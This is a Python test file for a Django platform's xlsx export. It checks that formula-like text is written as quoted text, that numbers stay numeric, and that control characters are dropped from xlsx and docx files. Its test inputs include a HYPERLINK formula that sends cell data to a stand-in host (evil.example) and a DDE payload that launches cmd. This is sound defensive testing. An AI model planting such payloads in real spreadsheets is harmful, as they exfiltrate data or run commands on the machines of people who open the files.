"""Issue 11 point 16: every .xlsx the platform writes holds text starting with =, +, -, @, a
tab or a carriage return as text, never as a formula (formula injection); real numbers stay
numbers. All writers go through zwfw.documents.xlsx.write_xlsx."""

import datetime
import io
import zipfile

import pytest
from openpyxl import load_workbook

from tests.catalog.factories import item_data
from zwfw.documents.xlsx import write_xlsx

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'


def _cells(content: bytes):
    ws = load_workbook(io.BytesIO(content)).active
    return [cell for row in ws.iter_rows() for cell in row if cell.value is not None]


def _no_formula_in_xml(content: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


@pytest.mark.parametrize(
    "text",
    [HYPERLINK, "=1+1", "+86 138", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "=cmd|' /C calc'!A0"],
)
def test_point16_formula_like_text_is_written_as_text(text):
    content = write_xlsx(["名称"], [[text]], caption=text)
    cells = _cells(content)
    values = [c for c in cells if c.value == text]
    assert len(values) == 2  # the caption and the row, unchanged (an export re-imports)
    for cell in values:
        assert cell.data_type == "s"  # not "f"
        assert cell.quotePrefix  # Excel keeps it text even when the cell is edited
    _no_formula_in_xml(content)


def test_point16_numbers_stay_numbers():
    content = write_xlsx(
        ["数", "负数", "小数", "日期", "文本"],
        [[5, -3, -2.5, datetime.date(2026, 10, 9), "普通文本"]],
    )
    by_value = {c.value: c for c in _cells(content)}
    assert by_value[5].data_type == "n" and by_value[-3].data_type == "n"
    assert by_value[-2.5].data_type == "n"
    assert by_value["普通文本"].data_type == "s" and not by_value["普通文本"].quotePrefix


def test_point11_illegal_characters_never_break_a_sheet():
    """openpyxl refuses control characters (IllegalCharacterError): one stored value used to
    make the export answer 500 for everyone; now they are dropped."""
    content = write_xlsx(["名称"], [["事项\x01名称\x1f"], ["\x00\ud800坏"], [object()]])
    values = [c.value for c in _cells(content)]
    assert "事项名称" in values and "坏" in values


@pytest.mark.django_db
def test_point16_items_export_writes_a_hyperlink_name_as_text(api, dept_admin, department):
    """An item named =HYPERLINK(...) exported through GET /api/v1/items/export.xlsx."""
    api.login(dept_admin)
    r = api.post("/items", {**item_data(code="F-1", name=HYPERLINK), "department": department.code})
    assert r.status_code == 201, r.content
    r = api.get("/items/export.xlsx", department=department.code)
    assert r.status_code == 200
    cells = [c for c in _cells(r.content) if c.value == HYPERLINK]
    assert cells and all(c.data_type == "s" for c in cells)
    _no_formula_in_xml(r.content)
    numbers = [c for c in _cells(r.content) if isinstance(c.value, int | float)]
    assert all(c.data_type == "n" for c in numbers)


@pytest.mark.django_db
def test_point16_ledger_row_starting_with_plus_is_text(client, clerk, dept_admin, department):
    """A case ledger (C-2.2) whose project and applicant names start with + and @."""
    from tests.cases.factories import make_item, org_applicant, receive
    from zwfw.cases import services

    item = make_item(dept_admin, department, name="保安服务公司设立许可")
    project = services.create_project(by=clerk, code="XM-F", name="+1+1 项目", investor="-投资")
    receive(clerk, item, applicant=org_applicant(name="@某公司", seq=81), project=project)
    client.force_login(clerk)
    r = client.get(f"/cases/ledgers/projects/{project.pk}/?format=xlsx")
    assert r.status_code == 200
    cells = {c.value: c for c in _cells(r.content)}
    for text in ("+1+1 项目", "@某公司"):
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text
    _no_formula_in_xml(r.content)


def test_point11_docx_survives_control_characters():
    """python-docx (lxml) refuses control characters as openpyxl does: a stored value with
    one must not stop a letter from being written."""
    from docx import Document as load_docx

    from zwfw.documents import docx as docx_doc

    doc = docx_doc.new_document()
    docx_doc.add_title(doc, "授权\x01书")
    docx_doc.add_paragraph(doc, "被授权人：张\x0b三\u202e")
    docx_doc.add_table(doc, ["姓名\x1f"], [["李\x00四"]])
    text = "".join(p.text for p in load_docx(io.BytesIO(docx_doc.to_bytes(doc))).paragraphs)
    assert "授权书" in text and "被授权人：张三" in text
